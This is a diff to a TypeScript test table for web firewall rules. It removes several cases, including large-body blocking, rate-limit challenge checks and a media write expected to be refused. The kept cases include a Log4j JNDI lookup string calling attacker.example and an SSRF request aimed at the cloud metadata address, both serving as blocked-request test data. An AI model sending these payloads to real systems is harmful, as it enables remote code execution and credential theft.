@@ -29,8 +29,6 @@ test.each<[string, FirewallRequest, string]>([
   ['an image', get('/a.png'), 'load balancer 24 h'],
   ['a part of an image', get('/a.png', { Range: 'bytes=0-99' }), 'load balancer 24 h'],
   ['an image that the browser has', get('/a.png', { 'If-None-Match': '"1"' }), 'load balancer 24 h'],
-  ['an image with an ending in capitals', get('/a.PNG'), 'load balancer'],
-  ['a source map', get('/app.js.map'), 'load balancer'],
   ['a video', get('/a.mp4', { Range: 'bytes=0-' }), 'load balancer'],
   ['a document', get('/terms.pdf'), 'load balancer'],
   ['the manifest of an app', get('/manifest.webmanifest'), 'load balancer'],
@@ -52,7 +50,6 @@ test.each<[string, FirewallRequest, string]>([
   ['an order in Japanese, of 4,000 characters', send('POST', '/api/orders', 12_000), 'load balancer'],
   ['a change', send('PATCH', '/api/me', 100), 'load balancer'],
   ['a deletion', send('DELETE', '/api/notes/1', 0), 'load balancer'],
-  ['a large order', send('POST', '/api/orders', 20_000), 'BLOCK LargeBodies'],
   ['an avatar in base64', send('PUT', '/api/me/avatar', 200_000), 'BLOCK LargeBodies'],
   ['a file through the API', send('POST', '/api/files', 20_000_000, { 'Content-Type': 'multipart/form-data' }), 'BLOCK LargeBodies'],
   ['a form for an upload to S3', send('POST', '/api/uploads', 60), 'load balancer'],
@@ -83,11 +80,7 @@ test.each<[string, FirewallRequest, string]>([
   ['Googlebot', get('/products', { ...HTML, 'User-Agent': 'Mozilla/5.0 (compatible; Googlebot/2.1)' }), 'load balancer'],
   ['a monitor that asks for the headers', { method: 'HEAD', uri: '/' }, 'load balancer'],
   ['the probe of the site', get('/ready', { 'User-Agent': 'eldonia-site-probe' }), 'load balancer'],
-  ['the liveness check from outside', get('/health'), 'load balancer'],
 
-  ['a page in the 20,001st view of its network', { ...get('/', HTML), networkRate: 20_001 }, 'CHALLENGE NetworkRateLimit'],
-  ['the same after the challenge', { ...get('/', HTML), networkRate: 20_001, challenged: true }, 'load balancer'],
-  ['an order of the same network', { ...send('POST', '/api/orders', 500), networkRate: 20_001 }, 'load balancer'],
   ['a script of the same network', { ...get('/app.js'), networkRate: 20_001 }, 'load balancer 168 h'],
   ['a native app of the same network', { ...get('/api/products', { Accept: 'application/json' }), networkRate: 20_001 }, 'load balancer'],
   ['the 12,000th call of an address', { ...get('/api/products'), rate: 12_000 }, 'load balancer'],
@@ -100,7 +93,6 @@ test.each<[string, FirewallRequest, string]>([
   ['a scanner of Log4j', get('/', { 'User-Agent': '${jndi:ldap://attacker.example/a}' }), 'BLOCK Log4JRCE_HEADER'],
   ['a request for the credentials of a machine', get('/go?to=http://169.254.169.254/latest'), 'BLOCK EC2MetaDataSSRF_QUERYARGUMENTS'],
   ['WebDAV', { method: 'PROPFIND', uri: '/' }, 'BLOCK PROPFIND_METHOD'],
-  ['a write to a picture', send('PUT', '/media/a', 100), '403'],
 ])('%s', (_, request, expected) => {
   expect(outcome(request)).toBe(expected);
 });
